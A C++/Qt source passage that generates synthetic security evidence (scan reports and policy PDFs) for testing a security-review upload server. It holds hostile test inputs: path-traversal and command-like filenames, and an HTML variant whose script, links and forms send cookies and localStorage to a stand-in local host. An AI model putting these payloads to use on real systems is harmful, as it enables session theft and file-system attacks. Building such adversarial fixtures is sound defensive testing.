#include "server/EvidenceFactory.h"

#include <QBuffer>
#include <QCryptographicHash>
#include <QDate>
#include <QFontMetricsF>
#include <QGuiApplication>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QList>
#include <QPainter>
#include <QPdfWriter>
#include <QRandomGenerator>
#include <QSet>
#include <QUuid>
#include <QtEndian>

#include <algorithm>
#include <cstdio>
#include <initializer_list>
#include <span>
#include <utility>

using namespace Qt::StringLiterals;

namespace assay::server {
namespace {

using Kind = EvidenceFactory::Kind;

enum Cat {
    DataSegregation,
    SecurityPatches,
    BreachResponse,
    Csrf,
    Xss,
    CustomerData,
    EmployeeMfa,
    Secrets,
    MassAssignment,
    TrustedRedirects,
    CatCount
};

const QStringView categoryKeys[CatCount] = {
    u"data_segregation",  u"security_patches", u"breach_response",         u"csrf_protection",
    u"xss_sanitization",  u"customer_data_protection", u"employee_mfa",   u"secrets_and_pii_storage",
    u"mass_assignment",   u"trusted_redirects",
};

const QStringView categoryTitles[CatCount] = {
    u"data segregation",      u"security patches",         u"breach response",   u"CSRF protection",
    u"XSS encoding and sanitization", u"customer data protection", u"MFA for employees", u"secrets and PII storage",
    u"mass assignment protection", u"trusted redirects",
};

const QStringView firstNames[] = {u"Ava",   u"Liam",  u"Noah",  u"Emma",   u"Mia",    u"Lucas", u"Sofia", u"Mateo",
                                  u"Aisha", u"Chen",  u"Priya", u"Jonas",  u"Elena",  u"Omar",  u"Yuki",  u"Fatima",
                                  u"Daniel", u"Zoe",  u"Ravi",  u"Ingrid", u"Kofi",   u"Lena",  u"Marco", u"Sara"};
const QStringView lastNames[] = {u"Schmidt", u"Okafor", u"Nguyen", u"Garcia",  u"Kowalski", u"Tanaka", u"Patel",
                                 u"Johansson", u"Rossi", u"Haddad", u"Silva",  u"Kim",      u"Dubois", u"Novak",
                                 u"Reyes",   u"Andersen", u"Costa", u"Ibrahim", u"Walsh",   u"Larsen"};
const QStringView services[] = {u"api", u"web", u"worker", u"billing", u"notifier", u"search", u"export"};

QString slugify(const QString &s, QChar sep)
{
    QString out;
    for (const QChar ch : s.toLower()) {
        if ((ch >= u'a' && ch <= u'z') || (ch >= u'0' && ch <= u'9'))
            out.append(ch);
        else if (!out.isEmpty() && !out.endsWith(sep))
            out.append(sep);
    }
    while (out.endsWith(sep))
        out.chop(1);
    return out.isEmpty() ? u"app"_s : out.left(40);
}

// App and partner names are partner data too: inside generated code or
// config they must not be able to break out of a string literal.
QString literalSafe(const QString &s)
{
    QString out;
    for (const QChar ch : s) {
        if (ch == u'"' || ch == u'\'' || ch == u'\\' || ch == u'`' || ch == u'$' || ch.category() == QChar::Other_Control)
            continue;
        out.append(ch);
    }
    return out.trimmed().isEmpty() ? u"Demo"_s : out.trimmed();
}

struct Ctx
{
    Kind kind;
    Cat cat;
    QString app, partner;     // as given (HTML-escaped where shown in HTML)
    QString appText, partnerText; // literal-safe, for code and config
    QString slug, pslug, ident, className;
    quint32 variant;
    QRandomGenerator rng;

    int below(int n) { return n <= 1 ? 0 : int(rng.bounded(quint32(n))); }
    int range(int lo, int hi) { return lo + below(hi - lo + 1); }
    bool chance(int percent) { return below(100) < percent; }
    template <std::size_t N> QString pick(const QStringView (&list)[N]) { return list[below(int(N))].toString(); }
    QString pick(std::initializer_list<QStringView> list) { return (list.begin() + below(int(list.size())))->toString(); }

    QString person() { return pick(firstNames) + u' ' + pick(lastNames); }
    QString email(const QString &person) const { return slugify(person, u'.') + u'@' + pslug + u".example"_s; }
    QString tenant() { return u"t_"_s + QString::number(1000 + below(900)); }
    QString hex(int digits)
    {
        QString s;
        for (int i = 0; i < digits; ++i)
            s.append(QLatin1Char("0123456789abcdef"[below(16)]));
        return s;
    }
    // upperAndDigits gives the shape of AWS key IDs.
    QString alnum(int n, bool upperAndDigits = false)
    {
        static const char all[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        QString s;
        for (int i = 0; i < n; ++i)
            s.append(QLatin1Char(all[!upperAndDigits ? below(62) : i % 3 == 2 ? 52 + below(10) : below(26)]));
        return s;
    }
    // The demo's "now" is autumn 2026; variants spread over weeks, not years.
    QDate date(int maxDaysBack = 60) const { return QDate(2026, 10, 15).addDays(-qint64((variant * 7919u) % quint32(maxDaysBack + 1))); }
};

QString fill(QString text, Ctx &c)
{
    static const QStringView days[] = {u"monday", u"tuesday", u"wednesday", u"thursday", u"friday", u"saturday", u"sunday"};
    text.replace(u"{{APP}}"_s, c.appText);
    text.replace(u"{{PARTNER}}"_s, c.partnerText);
    text.replace(u"{{SLUG}}"_s, c.slug);
    text.replace(u"{{PSLUG}}"_s, c.pslug);
    text.replace(u"{{IDENT}}"_s, c.ident);
    text.replace(u"{{CLASS}}"_s, c.className);
    text.replace(u"{{DAY}}"_s, days[c.variant % 7].toString());
    text.replace(u"{{HOUR}}"_s, QString::number(2 + c.variant % 4));
    text.replace(u"{{HOURS}}"_s, QString::number(c.variant % 2 ? 8 : 12));
    text.replace(u"{{N}}"_s, QString::number(5 + c.variant % 11));
    text.replace(u"{{ROT}}"_s, QString::number(c.variant % 2 ? 90 : 365));
    text.replace(u"{{TENANT}}"_s, QString::number(1000 + (c.variant * 37) % 900));
    if (text.contains(u"{{REVIEWED}}"_s))
        text.replace(u"{{REVIEWED}}"_s, u"Last reviewed "_s + c.date(90).toString(Qt::ISODate) + u" by "_s + c.email(c.person()));
    return text;
}

QString htmlEscaped(const QString &s) { return s.toHtmlEscaped(); }

// Drawn text needs fonts and fonts need a QGuiApplication; without one Qt
// would abort somewhere deep inside QFont, so say what is missing.
void requireGuiApplication()
{
    if (!qobject_cast<QGuiApplication *>(QCoreApplication::instance()))
        qFatal("EvidenceFactory: Pdf and Png evidence need a QGuiApplication (the offscreen platform is enough)");
}

// ---------------------------------------------------------------------------
// Filenames

QString hostileFilename(Ctx &c, const QString &normal)
{
    const QString ext = normal.mid(normal.lastIndexOf(u'.'));
    switch ((c.variant / 5 + quint32(c.kind) + quint32(c.cat)) % 9) {
    case 0: return u"../../../../etc/passwd"_s;
    case 1: return u"..\\..\\Windows\\System32\\evil.dll"_s;
    case 2: return u"report<script>alert(1)</script>.html"_s;
    case 3: return u"invoice\u202Efdp.exe"_s;
    case 4: return u"-rf --no-preserve-root.log"_s;
    case 5: {
        QString name = u"security-evidence-"_s;
        while (name.size() < 300 - ext.size())
            name += u"very-long-partner-supplied-name-"_s;
        return name.left(300 - ext.size()) + ext;
    }
    case 6: return u"CON.txt"_s;
    case 7: return u"evidence\n"_s + normal;
    default: return u" "_s;
    }
}

// ---------------------------------------------------------------------------
// HTML report

struct Finding
{
    const char16_t *severity, *location, *title, *description, *remediation, *cwe;
};

struct ReportSpec
{
    const char16_t *filePrefix, *title, *tool, *idPrefix, *locationHeader;
    std::initializer_list<Finding> findings;
};

const ReportSpec &reportSpec(Cat cat)
{
    static const ReportSpec specs[CatCount] = {
        {u"tenant-isolation-pentest", u"Tenant Isolation Penetration Test", u"Burp Suite Professional 2024.8 (manual multi-tenant testing)", u"TI", u"URL",
         {{u"High", u"/api/v2/tenants/{t}/invoices/{n}", u"Insecure direct object reference across tenants", u"Changing the tenant identifier in the path returned invoices of another tenant when the request used a support-role token.", u"Derive the tenant from the verified token only and scope every query with it; answer 404 for other tenants.", u"CWE-639"},
          {u"Medium", u"/api/v2/reports/export?tenant={t}", u"Tenant identifier accepted from the query string", u"The export job trusted the tenant parameter when the token carried several tenant memberships.", u"Resolve the active tenant server-side from the session and ignore client-supplied tenant parameters.", u"CWE-284"},
          {u"Medium", u"/graphql", u"GraphQL node() lookup bypasses the tenant filter", u"Global object IDs resolved through node(id:) skipped the tenant-scoped repository.", u"Route node() resolution through the same tenant-scoped data loaders as typed queries.", u"CWE-639"},
          {u"Low", u"/api/v2/search?q=invoice", u"Shared search index leaks document counts", u"Facet counts in search responses included documents of other tenants (no content disclosed).", u"Partition the index per tenant or filter aggregations by tenant.", u"CWE-203"},
          {u"Info", u"/healthz", u"Health endpoint discloses schema names", u"The verbose health check lists the database schemas of dedicated-tier tenants.", u"Return only an overall status to unauthenticated callers.", u"CWE-200"}}},
        {u"dependency-scan", u"Software Composition Analysis Report", u"OSV-Scanner 1.8 + Dependency-Track 4.11", u"SCA", u"Component",
         {{u"Critical", u"log4j-core@2.14.1", u"CVE-2021-44228: JNDI lookup remote code execution (Log4Shell)", u"The reporting service bundles log4j-core 2.14.1; message lookups allow remote code execution.", u"Upgrade to 2.17.1 or later and remove the JndiLookup class from any shaded copies.", u"CWE-502"},
          {u"High", u"lodash@4.17.20", u"CVE-2021-23337: command injection in template()", u"The web bundle includes lodash 4.17.20; template() with attacker-controlled options executes code.", u"Upgrade to 4.17.21.", u"CWE-94"},
          {u"High", u"jackson-databind@2.13.2", u"CVE-2022-42003: deep wrapper array nesting causes resource exhaustion", u"With UNWRAP_SINGLE_VALUE_ARRAYS enabled, deeply nested arrays exhaust the stack.", u"Upgrade to 2.13.4.2 or later.", u"CWE-400"},
          {u"Medium", u"requests@2.31.0", u"CVE-2024-35195: verify=False persists for the session", u"After a request with verify=False, later requests on the same connection skip certificate checks.", u"Upgrade to 2.32.0 or later.", u"CWE-670"},
          {u"Medium", u"urllib3@1.26.17", u"CVE-2023-45803: request body kept on 303 redirect", u"The body of a POST is resent to the redirect target after a 303 response.", u"Upgrade to 1.26.18 or 2.0.7.", u"CWE-200"},
          {u"Low", u"jinja2@3.1.3", u"CVE-2024-34064: xmlattr filter accepts keys with spaces", u"Attribute keys containing spaces allow injection of extra attributes when keys are user-controlled.", u"Upgrade to 3.1.4.", u"CWE-79"}}},
        {u"detection-exercise", u"Detection & Response Exercise Report", u"Breach and attack simulation (purple team)", u"BAS", u"Technique / asset",
         {{u"High", u"T1078 Valid Accounts / vpn gateway", u"Impossible-travel sign-in alerted late", u"The alert fired 47 minutes after the sign-in; the incident response plan requires 15 minutes for SEV2 signals.", u"Stream identity-provider risk events to the SIEM in real time and page on high risk.", u"CWE-778"},
          {u"Medium", u"T1567 Exfiltration to cloud storage / build agents", u"Large uploads to unsanctioned storage not blocked", u"A 2 GB archive was uploaded from a build agent to a personal storage account without an alert.", u"Restrict egress from build agents to an allow-list and alert on volume anomalies.", u"CWE-200"},
          {u"Medium", u"T1098 Account manipulation / cloud IAM", u"Break-glass key creation paged during business hours only", u"Creating an access key for the break-glass role raised a ticket, not a page, outside office hours.", u"Treat any break-glass credential change as SEV2 at all hours.", u"CWE-778"},
          {u"Low", u"T1070 Indicator removal / app servers", u"Local log deletion not correlated", u"Deleting local application logs was detected but not correlated with the preceding login.", u"Add a correlation rule for log tampering after interactive sessions.", u"CWE-223"},
          {u"Info", u"Tabletop / SEV1 notification", u"Regulator notification drafted in 31 hours", u"The tabletop exercise produced the regulator notice within the 72-hour target.", u"No action; keep the template and contact list current.", u"-"}}},
        {u"dast-report", u"Dynamic Application Security Test (DAST) Report", u"OWASP ZAP 2.15.0 authenticated active scan", u"ZAP", u"URL",
         {{u"Medium", u"POST /account/email", u"Absence of anti-CSRF tokens", u"No anti-CSRF token was found in the HTML form that changes the account e-mail address.", u"Use the framework's CSRF protection for every state-changing form and verify the token server-side.", u"CWE-352"},
          {u"High", u"POST /api/v2/integrations", u"CSRF on a JSON endpoint accepting text/plain", u"The endpoint parsed a text/plain body as JSON, so a cross-site form could create an integration.", u"Require application/json, verify the X-CSRF-Token header and check Origin / Sec-Fetch-Site.", u"CWE-352"},
          {u"Low", u"Set-Cookie: sessionid", u"Cookie without SameSite attribute", u"The session cookie is set without a SameSite attribute.", u"Set SameSite=Lax (or Strict) together with Secure and HttpOnly.", u"CWE-1275"},
          {u"Low", u"GET /logout", u"State change through a GET request", u"Logging out is possible with a cross-site image request.", u"Make logout a POST protected by the CSRF token.", u"CWE-352"},
          {u"Medium", u"POST /api/v2/users/{n}/role", u"Anti-CSRF token not bound to the session", u"A token issued to one session was accepted for another user's session.", u"Bind tokens to the session (HMAC of the session id) and rotate them at login.", u"CWE-352"},
          {u"Info", u"GET /reports?csrf_token=...", u"CSRF token sent in a URL", u"The token appears in a query string and can leak through the Referer header and logs.", u"Send the token in a header or a hidden form field only.", u"CWE-598"}}},
        {u"xss-scan", u"Web Application Scan: Cross-Site Scripting", u"Burp Suite Professional 2024.8 active scan", u"XSS", u"URL",
         {{u"High", u"GET /search?q=", u"Reflected cross-site scripting", u"The q parameter is copied into the page unencoded; the payload <script>alert(1)</script> was reflected verbatim.", u"Encode output for the HTML context and keep the strict Content-Security-Policy.", u"CWE-79"},
          {u"High", u"POST /tickets/{n}/comments", u"Stored cross-site scripting in rich-text comments", u"The payload <svg/onload=alert(document.domain)> survived the sanitizer and executed for support agents.", u"Sanitize with an allow-list (DOMPurify / HTML Purifier) on input and output.", u"CWE-79"},
          {u"Medium", u"GET /profile#name=", u"DOM-based XSS via location.hash", u"The profile page writes location.hash into innerHTML.", u"Use textContent, or Trusted Types with a sanitizing policy.", u"CWE-79"},
          {u"Low", u"All HTML responses", u"Content-Security-Policy allows 'unsafe-inline'", u"script-src includes 'unsafe-inline', which weakens the policy as a second line of defence.", u"Use nonces with 'strict-dynamic' and remove 'unsafe-inline'.", u"CWE-693"},
          {u"Info", u"/static/vendor/widget.js", u"Third-party script without Subresource Integrity", u"A script from a CDN is loaded without an integrity attribute.", u"Self-host the script or add an integrity hash.", u"CWE-353"}}},
        {u"data-exposure-assessment", u"Customer Data Protection Assessment", u"Cloud posture & data exposure scan", u"CDP", u"Resource",
         {{u"High", u"s3://{slug}-exports-prod", u"Export bucket allows public ACLs", u"Block Public Access is disabled on the bucket that stores customer CSV exports.", u"Enable all four Block Public Access settings at account and bucket level.", u"CWE-732"},
          {u"Medium", u"rds:{slug}-replica-eu", u"Read replica without encryption at rest", u"A reporting replica was restored from an unencrypted snapshot.", u"Recreate the replica from an encrypted snapshot with the customer-managed key.", u"CWE-311"},
          {u"Medium", u"GET /api/v2/customers?fields=*", u"Support role receives full customer records", u"The support API returns date of birth and tax ID, which support workflows do not need.", u"Apply field-level authorization and return minimal projections.", u"CWE-213"},
          {u"Low", u"api-gateway access logs", u"Customer e-mail addresses in access logs", u"Query strings with e-mail addresses are logged in plaintext.", u"Redact personal data in the log pipeline; move identifiers out of URLs.", u"CWE-532"},
          {u"Info", u"Backups", u"Backup retention exceeds policy", u"Snapshots are kept 45 days; the policy says 35.", u"Align the lifecycle rule with the retention policy.", u"-"}}},
        {u"identity-posture-review", u"Workforce Identity & MFA Assessment", u"Identity provider configuration review", u"IDP", u"Resource",
         {{u"High", u"idp app: Legacy VPN (RADIUS)", u"Application bypasses the MFA sign-on policy", u"The RADIUS integration authenticates with the password only.", u"Move the VPN to SAML with the MFA policy or require a push factor through the RADIUS agent.", u"CWE-308"},
          {u"Medium", u"idp policy: Contractors", u"SMS accepted as a second factor", u"Contractors may enroll SMS, which is vulnerable to SIM swapping and phishing.", u"Allow only FIDO2 and TOTP factors for every group.", u"CWE-308"},
          {u"Medium", u"source control organisation", u"Two-factor requirement not enforced for outside collaborators", u"Four outside collaborators have write access without two-factor authentication.", u"Enforce the organisation-wide 2FA requirement.", u"CWE-308"},
          {u"Low", u"idp: 3 service accounts", u"Service accounts excluded from MFA without compensating controls", u"Excluded accounts can sign in interactively from any network.", u"Disable interactive login or restrict to workload identity.", u"CWE-287"},
          {u"Info", u"idp session policy", u"Admin sessions last 24 hours", u"The policy target for administrator sessions is 12 hours.", u"Shorten the admin session lifetime.", u"CWE-613"}}},
        {u"secret-scan", u"Secrets & PII Scan Report", u"gitleaks 8.18 + trufflehog 3.78 (full history)", u"SEC", u"Location",
         {{u"Critical", u"{slug}-api: config/settings_local.py @ 4e1d9c2", u"AWS access key committed in history", u"An access key was committed in 2024 and removed later; it remains in history. The key has been revoked.", u"Rotate, confirm revocation in CloudTrail, and rewrite or archive the affected history.", u"CWE-798"},
          {u"High", u"image {slug}-worker:2026.09", u"Database password in an image layer", u"An ENV instruction in an intermediate layer holds the database password.", u"Fetch credentials from the secrets manager at runtime; rebuild and rotate.", u"CWE-522"},
          {u"Medium", u"worker logs", u"Customer phone numbers logged in plaintext", u"The SMS notifier logs the full recipient number on retry.", u"Redact personal data before logging; keep a hashed identifier instead.", u"CWE-532"},
          {u"Low", u"{slug}-web: .env.example", u"Realistic placeholder key", u"A placeholder matches the live key format and triggers scanners.", u"Use an obviously fake placeholder.", u"CWE-798"},
          {u"Info", u"CI variables", u"Two unmasked CI variables", u"Both hold non-sensitive values (region, log level).", u"No action.", u"-"}}},
        {u"api-pentest", u"API Security Assessment: Mass Assignment", u"Manual API penetration test (Burp Suite)", u"API", u"URL",
         {{u"Critical", u"PATCH /api/v2/users/{n}", u"Privilege escalation by adding role=admin", u"Adding \"role\": \"admin\" to the profile update body made the caller an administrator.", u"Bind requests to input types that list the writable fields; never bind to entities.", u"CWE-915"},
          {u"High", u"POST /api/v2/invoices", u"tenant_id accepted from the request body", u"An invoice could be created in another tenant by setting tenant_id.", u"Set tenant_id from the token; reject unknown properties.", u"CWE-915"},
          {u"Medium", u"PUT /api/v2/projects/{n}", u"owner_id writable by project members", u"Members could transfer project ownership to themselves.", u"Exclude owner_id from the update DTO; use the transfer workflow.", u"CWE-915"},
          {u"Low", u"POST /api/v2/signup", u"email_verified accepted at sign-up", u"The field is stored but the verification workflow still runs.", u"Drop the property from the sign-up schema.", u"CWE-915"},
          {u"Info", u"OpenAPI specification", u"Request schemas lack additionalProperties: false", u"Unknown fields are silently ignored by the gateway.", u"Set additionalProperties to false on every request schema.", u"CWE-20"}}},
        {u"open-redirect-scan", u"Open Redirect & OAuth Flow Assessment", u"OWASP ZAP 2.15.0 + manual verification", u"RED", u"URL",
         {{u"Medium", u"GET /login?next=//evil.example/", u"Open redirect via protocol-relative URL", u"After login the browser was sent to //evil.example/.", u"Accept only relative paths that start with a single slash, or hosts on an allow-list.", u"CWE-601"},
          {u"High", u"GET /oauth/authorize?redirect_uri=", u"redirect_uri prefix match allows attacker subdomains", u"https://{slug}.example.com.evil.example/cb was accepted because the check used startsWith().", u"Compare registered redirect URIs exactly.", u"CWE-601"},
          {u"Low", u"GET /logout?return_to=", u"Logout redirect accepts any https URL", u"Any https:// URL was accepted after logout.", u"Restrict return_to to relative paths and the help site.", u"CWE-601"},
          {u"Medium", u"GET /go?u=/\\evil.example", u"Backslash variant bypasses validation", u"Browsers treat /\\evil.example as protocol-relative.", u"Reject paths whose second character is / or \\.", u"CWE-601"},
          {u"Info", u"Redirect allow-list", u"Allow-list enforced server-side", u"Verified that the documented allow-list matches the deployed configuration.", u"No action.", u"-"}}},
    };
    return specs[cat];
}

QString severityClass(const QString &severity) { return u"sev-"_s + severity.toLower(); }

GeneratedEvidence makeHtml(Ctx &c)
{
    const ReportSpec &spec = reportSpec(c.cat);
    const bool hostile = c.variant % 3 == 0;
    const QString app = htmlEscaped(c.app), partner = htmlEscaped(c.partner);
    const QString host = c.slug + u".example.com"_s;
    const QDate scanDate = c.date();
    const QString reportId = QString::fromUtf16(spec.idPrefix) + u'-' + QString::number(scanDate.year())
        + u'-' + QString::number(1000 + c.below(9000));

    // The findings: a shuffled subset of the category's catalogue, so
    // variants differ in count, order, IDs and paths.
    QList<Finding> chosen(spec.findings);
    for (qsizetype i = chosen.size() - 1; i > 0; --i)
        std::swap(chosen[i], chosen[c.below(int(i + 1))]);
    chosen.resize(3 + qsizetype((c.variant * 5 + quint32(c.below(5))) % quint32(chosen.size() - 2)));
    const QStringList order = {u"Critical"_s, u"High"_s, u"Medium"_s, u"Low"_s, u"Info"_s};
    std::stable_sort(chosen.begin(), chosen.end(), [&](const Finding &a, const Finding &b) {
        return order.indexOf(QString::fromUtf16(a.severity)) < order.indexOf(QString::fromUtf16(b.severity));
    });
    int counts[5] = {0, 0, 0, 0, 0};
    for (const Finding &f : chosen)
        ++counts[order.indexOf(QString::fromUtf16(f.severity))];

    QString rows;
    int seq = 1;
    for (const Finding &f : chosen) {
        QString location = QString::fromUtf16(f.location);
        location.replace(u"{n}"_s, QString::number(c.range(2, 9800)));
        location.replace(u"{t}"_s, c.tenant());
        location.replace(u"{slug}"_s, c.slug);
        QString title = QString::fromUtf16(f.title), description = QString::fromUtf16(f.description);
        description.replace(u"{slug}"_s, c.slug);
        // Method-and-path locations are shown as full URLs, as scanners do.
        const qsizetype slash = location.indexOf(u'/');
        if (slash >= 0 && slash <= 7 && (location.startsWith(u'/') || location.at(0).isUpper()))
            location = location.left(slash) + u"https://"_s + host + location.mid(slash);
        rows += u"<tr><td><code>"_s + QString::fromUtf16(spec.idPrefix) + u'-' + QString::number(seq++).rightJustified(3, u'0')
            + u"</code></td><td><span class=\"sev "_s + severityClass(QString::fromUtf16(f.severity)) + u"\">"_s
            + QString::fromUtf16(f.severity) + u"</span></td><td><code>"_s + htmlEscaped(location)
            + u"</code></td><td><strong>"_s + htmlEscaped(title) + u"</strong><br>"_s + htmlEscaped(description)
            + u" <span class=\"cwe\">"_s + QString::fromUtf16(f.cwe) + u"</span></td><td>"_s
            + htmlEscaped(QString::fromUtf16(f.remediation)) + u"</td></tr>\n"_s;
    }

    QString sevBoxes;
    for (int i = 0; i < 5; ++i)
        sevBoxes += u"<div class=\"box "_s + severityClass(order.at(i)) + u"\"><b>"_s + QString::number(counts[i])
            + u"</b><span>"_s + order.at(i) + u"</span></div>"_s;

    const int requests = 4000 + c.below(60000);
    QString html = uR"~(<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>@TITLE@ - @APP@</title>
@HEAD@<style>
body{font-family:-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;margin:0;color:#1f2933;background:#f4f6f8;font-size:14px}
header{background:#102a43;color:#fff;padding:24px 40px}
header h1{margin:0 0 6px;font-size:24px}
header .meta{margin:0;color:#bcccdc}
header img.logo{float:right;height:40px}
main{padding:24px 40px;max-width:1200px}
.card{background:#fff;border:1px solid #d9e2ec;border-radius:6px;padding:16px 20px;margin-bottom:20px}
h2{font-size:17px;margin:0 0 12px;color:#243b53}
dl{display:grid;grid-template-columns:180px 1fr;gap:6px 12px;margin:0}
dt{color:#627d98}dd{margin:0}
.sev-grid{display:flex;gap:12px;margin-bottom:12px}
.box{flex:1;border-radius:6px;padding:10px;text-align:center;color:#fff}
.box b{display:block;font-size:26px}
.sev-critical{background:#7b1e3c;color:#fff}.sev-high{background:#d64545;color:#fff}
.sev-medium{background:#f0b429;color:#1f2933}.sev-low{background:#2680c2;color:#fff}.sev-info{background:#829ab1;color:#fff}
table.findings{width:100%;border-collapse:collapse}
table.findings th{background:#f0f4f8;text-align:left;padding:8px;border-bottom:2px solid #d9e2ec}
table.findings td{padding:8px;border-bottom:1px solid #e4e7eb;vertical-align:top}
span.sev{display:inline-block;padding:2px 8px;border-radius:10px;font-size:12px;font-weight:600}
.cwe{color:#627d98;font-size:12px}
code{font-family:"SFMono-Regular",Consolas,monospace;font-size:12px;word-break:break-all}
footer{padding:16px 40px;color:#627d98;font-size:12px}
</style>
</head>
<body>
<header>
@LOGO@<h1>@TITLE@</h1>
<p class="meta">@APP@ &middot; prepared for @PARTNER@ &middot; @TOOL@</p>
</header>
<main>
<section class="card">
<h2>Scan details</h2>
<dl>
<dt>Target</dt><dd><code>https://@HOST@/</code></dd>
<dt>Scan started</dt><dd>@DATE@ 01:@MIN@ UTC</dd>
<dt>Duration</dt><dd>@DURATION@ minutes</dd>
<dt>Requests / checks</dt><dd>@REQUESTS@</dd>
<dt>Policy</dt><dd>@TOOL@ &mdash; default policy plus @CATTITLE@ rules</dd>
<dt>Report ID</dt><dd>@REPORTID@</dd>
</dl>
</section>
<section class="card">
<h2>Summary</h2>
<div class="sev-grid">@BOXES@</div>
<p>The assessment of @APP@ identified @COUNT@ findings. Every finding below was reproduced manually; false positives were removed.
Findings rated Critical or High must be fixed before the Security Program review is completed; the remainder are tracked in the remediation backlog of @PARTNER@.</p>
@IFRAME@</section>
<section class="card">
<h2>Findings</h2>
@TOOLBAR@<table class="findings">
<thead><tr><th>ID</th><th>Severity</th><th>@LOCHEADER@</th><th>Finding</th><th>Remediation</th></tr></thead>
<tbody>
@ROWS@</tbody>
</table>
</section>
<section class="card">
<h2>Methodology</h2>
<p>Testing followed the OWASP Web Security Testing Guide v4.2 and the marketplace Security Program requirements for @CATTITLE@.
Authenticated scans used two accounts in separate tenants (a standard user and an administrator). Rate limits were relaxed for the scan window only.
Results are valid for the build deployed on @DATE@.</p>
@FORM@</section>
</main>
<footer>Generated by @TOOL@ &middot; @DATE@ &middot; Confidential &mdash; @PARTNER@ and the marketplace Security Program only
@PIXEL@</footer>
@SCRIPT@</body>
</html>
)~"_s;

    QString head, logo, iframe, toolbar, form, pixel, script;
    if (hostile) {
        // What a malicious or compromised partner might slip into a report.
        head = u"<link rel=stylesheet href=\"http://127.0.0.1:9/x.css\">\n"
               u"<meta http-equiv=\"refresh\" content=\"5;url=http://127.0.0.1:9/\">\n"_s;
        logo = u"<img class=\"logo\" src=\"assets/vendor-logo.svg\" alt=\"vendor logo\" "
               u"onerror=\"this.onerror=null;fetch('http://127.0.0.1:9/beacon?e='+encodeURIComponent(document.cookie))\">\n"_s;
        iframe = u"<iframe src=\"http://127.0.0.1:9/\" title=\"Live dashboard\" width=\"100%\" height=\"120\" frameborder=\"0\"></iframe>\n"_s;
        toolbar = u"<p><a href=\"javascript:fetch('http://127.0.0.1:9/beacon?click=export')\">Export findings as CSV</a></p>\n"_s;
        form = u"<form id=\"retest\" action=\"http://127.0.0.1:9/steal\" method=post>\n"
               u"<input type=\"hidden\" name=\"report\" value=\""_s + reportId + u"\">\n"
               u"<input type=\"hidden\" name=\"session\" id=\"session\" value=\"\">\n"
               u"<button type=\"submit\">Request a retest</button>\n</form>\n"_s;
        pixel = u"<img src=\"http://127.0.0.1:9/pixel.png\" width=\"1\" height=\"1\" alt=\"\">\n"_s;
        script = u"<script>\n"
                 u"document.getElementById('session').value = document.cookie + '|' + JSON.stringify(localStorage);\n"
                 u"fetch('http://127.0.0.1:9/beacon', {method: 'POST', mode: 'no-cors', body: JSON.stringify({u: location.href, r: document.referrer})});\n"
                 u"setTimeout(function () { document.getElementById('retest').submit(); }, 1500);\n"
                 u"</script>\n"_s;
    }
    const std::pair<QString, QString> subs[] = {
        {u"@HEAD@"_s, head}, {u"@LOGO@"_s, logo}, {u"@IFRAME@"_s, iframe}, {u"@TOOLBAR@"_s, toolbar},
        {u"@FORM@"_s, form}, {u"@PIXEL@"_s, pixel}, {u"@SCRIPT@"_s, script}, {u"@ROWS@"_s, rows},
        {u"@BOXES@"_s, sevBoxes}, {u"@TITLE@"_s, QString::fromUtf16(spec.title)}, {u"@APP@"_s, app},
        {u"@PARTNER@"_s, partner}, {u"@TOOL@"_s, htmlEscaped(QString::fromUtf16(spec.tool))}, {u"@HOST@"_s, host},
        {u"@DATE@"_s, scanDate.toString(Qt::ISODate)}, {u"@MIN@"_s, QString::number(10 + c.below(50))},
        {u"@DURATION@"_s, QString::number(20 + requests / 400)}, {u"@REQUESTS@"_s, QString::number(requests)},
        {u"@CATTITLE@"_s, categoryTitles[c.cat].toString()}, {u"@REPORTID@"_s, reportId},
        {u"@COUNT@"_s, QString::number(chosen.size())}, {u"@LOCHEADER@"_s, QString::fromUtf16(spec.locationHeader)},
    };
    for (const auto &[key, value] : subs)
        html.replace(key, value);
    return {QString::fromUtf16(spec.filePrefix) + u'-' + scanDate.toString(u"yyyy-MM") + u".html"_s, u"text/html"_s, html.toUtf8()};
}

// ---------------------------------------------------------------------------
// PDF documents

struct DocSpec
{
    const char16_t *file, *title, *docId, *purpose, *h1, *p1, *h2, *p2, *tableTitle;
    std::initializer_list<const char16_t *> header;
    std::initializer_list<std::initializer_list<const char16_t *>> rows;
};

const DocSpec &docSpec(Cat cat)
{
    static const DocSpec specs[CatCount] = {
        {u"tenant-isolation-standard", u"Multi-Tenant Data Segregation Standard", u"ISMS-STD-04",
         u"This standard describes how {app} keeps each customer's data separate from every other customer's data in storage, processing and support tooling, and how {partner} verifies that these controls keep working.",
         u"Isolation model", u"All tenants share the application tier; data is isolated in PostgreSQL with row-level security keyed on the tenant identifier taken from the verified access token. Object storage uses one prefix and one encryption key per tenant. Search indexes are partitioned by tenant and every cache key includes the tenant.",
         u"Verification", u"Integration tests attempt cross-tenant reads and writes against every API endpoint on each build. An independent firm performs an annual tenant-isolation penetration test. Support staff reach customer data only through just-in-time grants that are logged and reviewed weekly.",
         u"Control matrix", {u"Layer", u"Control", u"Enforced by", u"Evidence"},
         {{u"Database", u"Row-level security on all tenant tables", u"PostgreSQL policies", u"Migration test suite"},
          {u"Object storage", u"Per-tenant prefix and KMS key", u"IAM condition keys", u"Quarterly access review"},
          {u"Search", u"Index per tenant", u"Query router", u"Integration tests"},
          {u"Cache", u"Tenant-qualified keys", u"Cache client wrapper", u"Code review checklist"},
          {u"Support tools", u"Just-in-time access", u"Access broker", u"Weekly audit log review"}}},
        {u"patch-management-procedure", u"Patch Management Procedure", u"ISMS-PRC-11",
         u"This procedure sets the timelines and steps by which {partner} applies security patches to {app}, its third-party dependencies and the infrastructure it runs on.",
         u"Sources and triage", u"Vulnerabilities are reported by Dependabot and Renovate for application dependencies, by the registry scanner for container images and by the cloud provider's inspector for hosts. Each finding is triaged within one business day and its CVSS score adjusted for exploitability and exposure.",
         u"Deployment", u"Patches go through the normal CI pipeline and the full test suite. Host patches are applied by unattended upgrades in a weekly maintenance window; nodes are drained and rebooted one at a time. Patches for actively exploited vulnerabilities may bypass the window with approval of the on-call security engineer.",
         u"Remediation timelines", {u"Severity", u"CVSS", u"Time to patch", u"Exception approver"},
